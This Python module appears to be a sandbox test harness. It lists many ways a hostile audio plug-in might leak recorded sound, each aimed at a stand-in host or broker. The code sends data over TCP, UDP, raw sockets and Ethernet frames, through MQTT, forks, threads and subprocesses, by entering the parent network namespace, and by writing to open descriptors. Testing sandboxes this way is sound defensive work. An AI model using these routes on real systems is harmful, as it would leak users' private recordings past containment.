"""Every way out that a hostile senses knows, each towards the proof's own internet or broker.

Where nothing stops them, most put packets on the wire; that is what they are for. None of them
reaches a real network: they run only inside the proof. More, for which no packet is to be seen, are
in hub/cage/escapes.py.
"""

import os
import socket
import subprocess
import sys
import threading
from collections.abc import Callable, Mapping
from contextlib import suppress
from pathlib import Path
from types import MappingProxyType

from hub.cage.kernel import call
from hub.proof.addresses import BROKER, BROKER_PORT, STRANGER, STRANGER_6
from hub.proof.contraband import SOUND

LEFT_BEHIND = "overheard.wav"
"""Name of the file that is written where one can be."""

_TAKEN = SOUND[:1_000]
_MPTCP, _RAW_ICMP, _UDPLITE = 262, 1, 136
_FAST_OPEN = 0x2000_0000
_IPV4_FRAMES = 0x0800
_PATIENCE = 0.5
_NETWORK = 0x4000_0000
_HIGHEST = 256
_NAME = "overheard.example"
_PROGRAM = f"import socket; socket.create_connection({(STRANGER, 443)!r}, 1).send(b'overheard')"

Attempt = Callable[[], object]


def try_every(folders: tuple[Path, ...]) -> int:
    """Try all; `folders`: where a file might be left. Gives how many there are."""
    for attempt in ATTEMPTS.values():
        with suppress(OSError):
            attempt()
    for folder in folders:
        with suppress(OSError):
            (folder / LEFT_BEHIND).write_bytes(SOUND)
    return len(ATTEMPTS) + len(folders)


def _tcp(host: str = STRANGER, port: int = 443, protocol: int = 0) -> None:
    family = socket.AF_INET6 if ":" in host else socket.AF_INET
    with socket.socket(family, socket.SOCK_STREAM, protocol) as line:
        line.settimeout(_PATIENCE)
        line.connect((host, port))
        line.sendall(_TAKEN)


def _udp(host: str = STRANGER, port: int = 443, protocol: int = 0) -> None:
    family = socket.AF_INET6 if ":" in host else socket.AF_INET
    with socket.socket(family, socket.SOCK_DGRAM, protocol) as line:
        line.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
        line.sendto(_TAKEN, (host, port))


def _fast_open() -> None:
    with socket.socket() as line:
        line.settimeout(_PATIENCE)
        line.sendto(_TAKEN, _FAST_OPEN, (STRANGER, 443))


def _raw() -> None:
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, _RAW_ICMP) as line:
        line.sendto(b"\x08\0\0\0" + _TAKEN, (STRANGER, 0))


def _frame() -> None:
    """Past the whole network, straight to the cable."""
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(_IPV4_FRAMES)) as line:
        line.bind(("wan0", 0))
        line.send(b"\xff" * 12 + b"\x88\xb5" + _TAKEN)


def _broker() -> None:
    """As an MQTT client of its own: CONNECT, then a publish."""
    connect = b"\x10\x10\0\4MQTT\4\2\0\x3c\0\4evil"
    body = b"\0\4evil" + _TAKEN[:100]
    with socket.create_connection((BROKER, BROKER_PORT), _PATIENCE) as line:
        line.sendall(connect + bytes((0x30, len(body))) + body)
        line.recv(64)


def _fork() -> None:
    if os.fork() == 0:
        with suppress(OSError):
            _tcp(port=444)
        os._exit(0)


def _thread() -> None:
    def try_tcp() -> None:
        with suppress(OSError):
            _tcp(port=445)

    try:
        thread = threading.Thread(target=try_tcp)
        thread.start()
        thread.join()
    except RuntimeError as error:
        raise OSError(str(error)) from error


def _program() -> None:
    words = [sys.executable, "-c", _PROGRAM]
    subprocess.run(words, stderr=subprocess.DEVNULL, check=False, timeout=5)  # noqa: S603 - our own


def _launchers_network() -> None:
    fd = os.open(f"/proc/{os.getppid()}/ns/net", os.O_RDONLY)
    try:
        call("setns", fd, _NETWORK)
        _udp(port=446)
    finally:
        os.close(fd)


def _house() -> None:
    """Asks the house itself, as the owner would at the machine."""
    socket_ = Path(os.environ["XDG_RUNTIME_DIR"], "inglenook.sock")
    with socket.socket(socket.AF_UNIX) as line:
        line.settimeout(_PATIENCE)
        line.connect(str(socket_))
        line.sendall(b'{"say": "overheard"}\n')


def _descriptors() -> None:
    """Whatever is open, also the pipe to the house."""
    for fd in range(3, _HIGHEST):
        with suppress(OSError):
            os.set_blocking(fd, False)
            os.write(fd, _TAKEN)


ATTEMPTS: Mapping[str, Attempt] = MappingProxyType(
    {
        "TCP": _tcp,
        "TCP, plain web": lambda: _tcp(port=80),
        "TCP, any port": lambda: _tcp(port=50_000),
        "TCP over IPv6": lambda: _tcp(STRANGER_6),
        "multipath TCP": lambda: _tcp(protocol=_MPTCP),
        "TCP fast open": _fast_open,
        "UDP": _udp,
        "UDP over IPv6": lambda: _udp(STRANGER_6),
        "UDP-Lite": lambda: _udp(protocol=_UDPLITE),
        "a name server of its own": lambda: _udp(port=53),
        "looking up a name": lambda: socket.getaddrinfo(_NAME, 443),
        "to all on the LAN": lambda: _udp("192.168.77.255", 9),
        "multicast": lambda: _udp("224.0.0.251", 5353),
        "another port of the broker": lambda: _tcp(BROKER, 8883),
        "the broker by itself": _broker,
        "raw ICMP": _raw,
        "a raw frame": _frame,
        "a thread": _thread,
        "a process": _fork,
        "a program": _program,
        "the launcher's network": _launchers_network,
        "the house's own socket": _house,
        "descriptors that are open": _descriptors,
    }
)
